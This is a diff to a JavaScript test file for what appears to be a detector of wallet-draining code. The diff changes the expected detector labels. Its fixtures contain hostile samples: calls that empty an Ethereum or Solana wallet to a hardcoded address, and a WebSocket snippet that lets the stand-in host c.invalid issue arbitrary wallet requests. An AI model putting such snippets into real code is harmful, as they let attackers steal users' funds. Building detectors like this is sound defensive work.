@@ -14,7 +14,7 @@ const KEY = "new PublicKey('4Nd1mBQtrMJVYVfKf2PJy9NZUZdTAsp7D4xWLs4gDB4T')";
 
 describe('wallets', () => {
   it('are drained where all that is in them goes to an address of the code', () => {
-    assert.deepEqual(behavioursOf(ETHEREUM(OWN, 'all')), ['drains-wallet call']);
+    assert.deepEqual(behavioursOf(ETHEREUM(OWN, 'all')), ['asks-wallet call', 'drains-wallet call']);
     assert.deepEqual(behavioursOf(SOLANA(KEY, 'all - 5000')), ['drains-wallet call']);
   });
 
@@ -43,8 +43,8 @@ describe('wallets', () => {
   });
 
   it('may show what is in them, and pay an amount or whom a caller names', () => {
-    assert.deepEqual(behavioursOf(ETHEREUM(OWN, "'0x10'")), []);
-    assert.deepEqual(behavioursOf(ETHEREUM('window.to', 'all')), []);
+    assert.deepEqual(behavioursOf(ETHEREUM(OWN, "'0x10'")), ['asks-wallet call']);
+    assert.deepEqual(behavioursOf(ETHEREUM('window.to', 'all')), ['asks-wallet call']);
     assert.deepEqual(behavioursOf(SOLANA(KEY, '1000')), []);
     assert.deepEqual(behavioursOf(SOLANA('to', 'all')), []);
   });
@@ -68,7 +68,8 @@ describe('wallets', () => {
         `const ws = new WebSocket('wss://c.invalid/s'); ws.onmessage = async (e) => { const order = JSON.parse(e.data); ws.send(JSON.stringify(await window.ethereum.request({ method: ${method}, params: order.p }))); };`,
       );
     assert.deepEqual(answer('order.m'), ['wallet-obeys-host import']);
-    assert.deepEqual(answer(`'eth_sendTransaction'`), []);
+    assert.deepEqual(answer(`'eth_sendTransaction'`), ['asks-wallet import']);
+    assert.deepEqual(answer(`'eth_requestAccounts'`), []);
   });
 
   it('have keys, by whatever name they are given and made', () => {
